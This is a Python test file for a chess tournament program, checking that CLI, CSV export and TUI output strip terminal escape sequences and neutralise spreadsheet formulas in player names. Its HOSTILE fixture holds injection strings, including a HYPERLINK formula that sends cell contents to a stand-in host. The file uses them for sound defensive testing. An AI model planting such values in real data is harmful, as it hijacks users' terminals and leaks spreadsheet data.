"""Hostile names reach no terminal raw and no spreadsheet as a formula, through every path.

The CLI commands of the audit (issue 18, item 4) are run on a tournament whose players are named
with escape sequences; their whole output (stdout and stderr) must be free of control characters
other than newline and tab, and the name's visible part must still be there.  The TUI's last
step (``Strip.render``) is checked directly and through a Pilot run.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from core import changes
from core.cli import main
from core.model import Player, Tournament
from core.store import Store

HOSTILE = ("\x1b]0;pwned\x07Title, Tom", "\x1b[2JClear, Cleo", "Back\rspace, Bea",
           "\u202eReversed, Rex", "\x9b2JCsi, Cem", '=HYPERLINK("http://x.example/?"&A1,"Click")')
_RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture()
def event(tmp_path, monkeypatch):
    monkeypatch.setenv("HAKEM_DATA", str(tmp_path))
    store = Store(tmp_path)
    # hakem refuses such names since issue 29 (core.fields.name), but a file written by hand or
    # by an older version still holds them: the output must stay safe whatever is stored
    players = tuple(Player(i + 1, name, rating=2000 - i, club=name) for i, name in enumerate(HOSTILE))
    tid = store.create(Tournament(id="", name="\x1b]0;pwned\x07Open", total_rounds=3, players=players))
    store.update(tid, "pair", changes.pair_next_round)
    store.update(tid, "result", lambda t: changes.set_result(t, 1, 1, "1-0"))
    return tid


COMMANDS = [
    ["list"], ["players", "list", "{tid}"], ["round", "show", "{tid}"], ["standings", "{tid}"],
    ["report", "{tid}", "standings"], ["report", "{tid}", "crosstable"], ["report", "{tid}", "pairings"],
    ["log", "{tid}"], ["picture", "{tid}", "progress"], ["standings", "{tid}", "--format", "json"],
    ["players", "edit", "{tid}", "1", "--name", "\x1b]0;again\x07"],
]


@pytest.mark.parametrize("argv", COMMANDS, ids=lambda a: " ".join(a[:3]))
def test_no_command_prints_a_control_character(event, capsys, argv):
    main([a.format(tid=event) for a in argv])
    out = capsys.readouterr()
    for stream in (out.out, out.err):
        assert not _RAW.search(stream), repr(_RAW.search(stream))
    if argv[0] in ("players", "standings", "report") and argv[-1] != "json" and "edit" not in argv:
        # the name's visible part is there (the 80-column round-1 pairing list, with ratings,
        # may end a 20-character name in …, on either side as the colours fall: a cut of the
        # layout, not of the safety)
        assert "Title" in out.out and "Cleo" in out.out


def test_json_output_stays_valid_json(event, capsys):
    main(["standings", event, "--format", "json"])
    json.loads(capsys.readouterr().out)


def test_an_error_message_naming_a_hostile_value_is_clean(event, capsys):
    main(["result", event, "1", "\x1b]0;x\x07", "1-0"])
    err = capsys.readouterr().err
    assert err and not _RAW.search(err)


@pytest.mark.parametrize("argv", [["standings", "{tid}", "--format", "csv"],
                                  ["report", "{tid}", "standings", "--format", "csv"],
                                  ["report", "{tid}", "alphabetical", "--format", "csv"]])
def test_csv_cells_are_never_formulas(event, capsys, argv):
    main([a.format(tid=event) for a in argv])
    text = capsys.readouterr().out
    assert not _RAW.search(text)
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert any("HYPERLINK" in c for c in cells)
    for cell in cells:
        if cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and not re.fullmatch(r"-[\d.,]+", cell)):
            pytest.fail(f"formula cell {cell!r}")


def test_csv_export_file_is_quoted_too(event, tmp_path_factory):
    out = tmp_path_factory.mktemp("out") / "standings.csv"  # outside the data directory
    main(["export", event, "--csv", "-o", str(out)])
    cells = [c for row in csv.reader(io.StringIO(out.read_text())) for c in row]
    assert "'" + HOSTILE[-1] in cells


def test_the_tui_last_step_drops_every_control_character():
    from rich.console import Console
    from rich.segment import Segment
    from rich.style import Style
    from textual.strip import Strip

    from tui import safe_render

    safe_render.install()
    strip = Strip([Segment("Kaya \x1b]0;pwned\x07Can \x1b[2J\r\u202e", Style(bold=True)), Segment(" 2100")])
    rendered = strip.render(Console())
    visible = re.sub(r"\x1b\[[0-9;]*m", "", rendered)  # the style's own SGR codes are ours
    assert visible == "Kaya ]0;pwnedCan [2J 2100"
    assert "\x1b]" not in rendered and "\x07" not in rendered and "\r" not in rendered


@pytest.mark.usefixtures("quiet_tui")
async def test_the_tui_writes_hostile_names_without_their_escapes(event, tmp_path):
    """The terminal sequence of a full screen update (what the driver writes)."""
    from tui.app import HakemApp

    app = HakemApp(data_dir=str(tmp_path), open_id=event)
    async with app.run_test(size=(100, 30)) as pilot:
        await pilot.pause()
        # what the app would write to a real terminal: the compositor's full update
        update = app.screen._compositor.render_update(full=True)
        text = update.render_segments(app.console)
    assert "Open" in text  # the tournament's name is shown...
    for raw in ("\x1b]", "\x07", "\x1b[2J", "\r", "\u202e", "\x9b"):
        assert raw not in text  # ...without what it smuggled in
